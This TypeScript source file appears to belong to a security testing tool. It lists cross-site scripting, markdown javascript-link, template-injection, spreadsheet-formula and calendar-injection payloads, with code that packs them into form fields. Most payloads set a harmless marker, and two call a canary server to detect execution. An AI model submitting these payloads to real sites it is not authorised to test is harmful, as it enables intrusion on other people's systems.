// What somebody might type to make a page, a letter or a file do something. Each leaves a mark when it runs, and one asks a server for a script.

/** Texts that would run in a page, a letter or a spreadsheet if anything took them for more than text. `canary`: the address of a server that counts. */
export const payloads = (canary: string): string[] => [
  `<script>ran=1</script>`,
  `"><img src=x onerror=ran=1>`,
  `'><svg onload=ran=1>`,
  `</script><script>ran=1</script>`,
  `</title></textarea><script>ran=1</script>`,
  `<script src=${canary}/s.js></script>`,
  `" onfocus=ran=1 autofocus x="`,
  `[a](javascript:ran=1)`,
  `<javascript:ran=1>`,
  `[b]: javascript:ran=1 "x"`,
  `![c](x"onerror="ran=1)`,
  `[d](<data:text/html,<script>ran=1</script>>)`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<math><mtext><style><img src=x onerror=ran=1>`,
  `--><![CDATA[<script>ran=1</script>]]>`,
  `&lt;script&gt;ran=1&lt;/script&gt;`,
  `\\u003cscript\\u003eran=1\\u003c/script\\u003e`,
  `\u2028ran=1//\u2029`,
  `{{constructor.constructor('ran=1')()}}`,
  `$\{ran=1}<%=ran=1%>`,
  `=HYPERLINK("${canary}/f","x")`,
  `\rEND:VEVENT\rX-RAN:1`,
]

type Field = { type: string; most: number }

/**
 * What to type into a field, the most hostile first: as many texts as fit, then without what some fields refuse. The number makes each one different
 * from those before. The last resort is in the hands of whoever fills the form.
 */
export const attempts: ((texts: string[], field: Field, number: number) => string)[] = [
  (texts, field, number) => joined(texts, field, number),
  (texts, field, number) =>
    joined(
      texts.filter((text) => !/[{}]/.test(text)),
      field,
      number,
    ),
  (texts, field, number) =>
    joined(
      texts.filter((text) => !/[{}]|:\/\/|www\./.test(text)),
      field,
      number,
    ),
  (_, __, number) => `https://example.org/${number}?"'><script>ran=1</script>`,
  (_, __, number) => `<script>ran=1</script>${number} https://example.org/${number}`,
]

/** As many as fit, beginning with another one each time. One at its very beginning would be a formula. */
function joined(texts: string[], { type, most }: Field, number: number): string {
  const end = ` ${number}`
  const separator = type === "textarea" ? "\n" : " "
  const turned = texts.map((_, index) => texts[(index + number) % texts.length] ?? "")
  let text = "=1+1"
  for (const next of turned) if (text.length + separator.length + next.length + end.length <= most) text += `${separator}${next}`
  return `${text}${end}`
}
